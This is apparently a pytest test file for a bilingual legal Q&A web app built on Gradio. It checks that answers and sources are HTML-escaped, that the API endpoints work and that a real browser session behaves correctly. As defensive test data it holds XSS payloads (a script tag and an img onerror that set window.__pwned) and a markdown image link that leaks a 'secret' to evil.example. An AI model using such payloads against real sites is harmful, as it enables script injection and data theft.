"""The web app: rendering is escaped, the named API works through gradio_client, and a real browser chats."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import httpx
import pytest

from assistant.answering.answer import Answer
from assistant.answering.citations import DroppedCitation
from assistant.corpus.adding import add_regulation
from assistant.corpus.model import Citation
from assistant.serving.ui import anchor, mode_line, render_answer, render_sources
from tests.conftest import free_port, wait_for_http

# Written where tests may write (LAWQA_SCREENSHOTS, else a temporary folder), never over a tracked file: the
# README's copy (tests/screenshots/ui.png) is updated deliberately, by copying a fresh one over it.
SCREENSHOTS = Path(os.environ.get("LAWQA_SCREENSHOTS") or tempfile.mkdtemp(prefix="lawqa-screenshots-"))
SCREENSHOT = SCREENSHOTS / "ui.png"
EVIL = ("第一条 本规定用于测试 <script>window.__pwned = true</script> 和 "
        "<img src=x onerror=\"window.__pwned = true\"> 的显示。\n第二条 本规定自发布之日起施行。\n")


def test_answer_markdown_is_escaped_and_links_citations(corpus):
    article = corpus.get("shanghai-ai-2022:66")
    answer = Answer(text="《上海市促进人工智能产业发展条例》第六十六条规定：\n> <b>x</b> & <script>y</script>",
                    citations=(Citation("shanghai-ai-2022", 66),), language="zh", abstained=False, retrieved=(),
                    cited_articles=(article,))
    markdown = render_answer(answer, corpus)
    assert "<script>" not in markdown and "&lt;script>" in markdown and "&amp;" in markdown
    assert markdown.startswith("[《上海市促进人工智能产业发展条例》第六十六条](#lawqa-shanghai-ai-2022-66)规定：")


def test_sources_panel_shows_both_languages_and_metadata(corpus):
    answer = Answer(text="…", citations=(Citation("shanghai-ai-2022", 66),), language="en", abstained=False,
                    retrieved=(), cited_articles=(corpus.get("shanghai-ai-2022:66"),))
    panel = render_sources(answer, corpus, "en")
    assert f'id="{anchor("shanghai-ai-2022:66")}"' in panel
    assert '<div lang="zh"><p>本市设立人工智能伦理专家委员会' in panel and '<div lang="en"><p>The Municipality' in panel
    assert "Effective: 2022-10-01" in panel and "Chapter 5: " in panel


def test_sources_panel_escapes_article_text(tmp_path):
    from assistant.corpus.sources import load_corpus

    source = tmp_path / "evil.txt"
    source.write_text(EVIL, encoding="utf-8")
    add_regulation(tmp_path, source, regulation_id="test-evil-2024", title="<b>Evil</b> 规定")
    corpus = load_corpus(tmp_path)
    answer = Answer(text="…", citations=(Citation("test-evil-2024", 1),), language="zh", abstained=False,
                    retrieved=(), cited_articles=(corpus.get("test-evil-2024:1"),))
    panel = render_sources(answer, corpus, "zh")
    assert "<script>" not in panel and "<img" not in panel
    assert "&lt;script&gt;window.__pwned = true&lt;/script&gt;" in panel and "&lt;b&gt;Evil&lt;/b&gt;" in panel


def test_mode_line_says_why_it_fell_back():
    answer = Answer(text="…", citations=(), language="en", abstained=False, retrieved=(), mode="extractive",
                    note="fell back to extractive: ConnectError: refused",
                    dropped_citations=(DroppedCitation("shanghai-ai-2022", 99, "does not exist"),))
    line = mode_line(answer, "en")
    assert line.startswith("LLM unavailable, fell back to extractive: fell back to extractive: ConnectError")
    assert "shanghai-ai-2022:99 (does not exist)" in line


@pytest.fixture(scope="module")
def served(e5_assistant, tmp_path_factory):
    """`lawqa serve` on a free port over a copy of the e5 data dir with a regulation containing markup added."""
    data_dir = tmp_path_factory.mktemp("served")
    shutil.copytree(e5_assistant.settings.data_dir, data_dir, dirs_exist_ok=True)
    source = data_dir / "evil.txt"
    source.write_text(EVIL, encoding="utf-8")
    add_regulation(data_dir, source, regulation_id="test-evil-2024", title="测试规定")
    port = free_port()
    env = {**os.environ, "LAWQA_DATA_DIR": str(data_dir), "HF_HUB_OFFLINE": "1", "GRADIO_ANALYTICS_ENABLED": "False"}
    process = subprocess.Popen([sys.executable, "-m", "assistant", "serve", "--port", str(port)], env=env,
                               stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_for_http(f"{url}/healthz", process, timeout=120)
        deadline = 180
        while httpx.get(f"{url}/healthz").json()["state"] != "ready" and deadline > 0:
            import time

            time.sleep(1)
            deadline -= 1
        yield url
    finally:
        process.terminate()
        process.wait(timeout=20)


@pytest.mark.slow
@pytest.mark.parametrize("question, article", [("深圳条例第七十一条规定了什么？", "shenzhen-ai-2022:71"),
                                               ("What does Article 44 of the Shenzhen regulation allow?",
                                                "shenzhen-ai-2022:44")])
def test_gradio_client_named_endpoints(served, question, article):
    from gradio_client import Client

    client = Client(served + "/", verbose=False)
    chat, panel, _mode, box = client.predict(question, [], "all", "extractive", api_name="/chat")
    assert chat[-1]["role"] == "assistant" and f"#{anchor(article)}" in str(chat[-1]["content"])
    assert f'id="{anchor(article)}"' in panel and box == ""
    contract = client.predict(question, "all", "extractive", api_name="/ask")
    regulation, number = article.split(":")
    assert {"regulation": regulation, "article": int(number)} in contract["citations"]


def _chromium():
    path = shutil.which("chromium") or "/usr/bin/chromium"
    if not os.path.exists(path):
        # Debian's package, installed only where the test may (root); otherwise skip with the reason.
        if os.geteuid() == 0 and shutil.which("apt-get"):
            subprocess.run(["apt-get", "install", "-y", "-qq", "chromium"], capture_output=True, timeout=900,
                           check=False)
        if not os.path.exists(path):
            pytest.skip("Chromium is not installed and cannot be installed here (needs root and apt-get)")
    return path


BROWSER_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]


@pytest.mark.slow
def test_browser_chat_sources_sessions_and_escaping(served, tmp_path):
    from playwright.sync_api import expect, sync_playwright

    executable = _chromium()
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable, args=BROWSER_FLAGS)
        try:
            page = browser.new_context(viewport={"width": 1400, "height": 1000}).new_page()
            page.goto(served + "/")
            box = page.locator("#lawqa-question textarea")
            box.fill("上海市人工智能伦理专家委员会有哪些职责？")
            box.press("Enter")
            panel = page.locator("#lawqa-sources")
            expect(panel).to_contain_text("本市设立人工智能伦理专家委员会", timeout=60_000)
            expect(panel).to_contain_text("Expert Committee on AI Ethics")
            chat = page.locator("#lawqa-chat")
            expect(chat).to_contain_text("第六十六条", timeout=30_000)
            page.locator('#lawqa-chat a[href="#lawqa-shanghai-ai-2022-66"]').first.click()
            expect(page.locator("#lawqa-shanghai-ai-2022-66")).to_be_in_viewport()
            SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
            page.screenshot(path=str(SCREENSHOT), full_page=False)

            other = browser.new_context().new_page()  # a second user sees none of the first one's chat
            other.goto(served + "/")
            expect(other.locator("#lawqa-question textarea")).to_be_visible()
            expect(other.locator("#lawqa-chat")).not_to_contain_text("第六十六条")

            box.fill("测试规定第一条规定了什么？")
            box.press("Enter")
            expect(panel).to_contain_text("<script>window.__pwned = true</script>", timeout=60_000)
            assert page.evaluate("window.__pwned === undefined")  # shown as text, never run
            page.locator("#lawqa-clear").click()
            expect(chat).not_to_contain_text("第六十六条")
        finally:
            browser.close()
    assert SCREENSHOT.stat().st_size > 10_000


def test_links_and_images_in_answers_are_not_live(corpus):
    from assistant.serving.ui import escape_markdown_html, unescape_markdown_html

    hostile = "See ![x](https://evil.example/?q=secret) and [official text](https://evil.example) `code`"
    answer = Answer(text=hostile, citations=(), language="en", abstained=False, retrieved=())
    markdown = render_answer(answer, corpus)
    assert "![" not in markdown and "](" not in markdown.replace("\\](", "")
    assert markdown.startswith("See \\!\\[x\\](https://evil.example/?q=secret)")
    assert unescape_markdown_html(escape_markdown_html("a < b & [c]!")) == "a < b & [c]!"
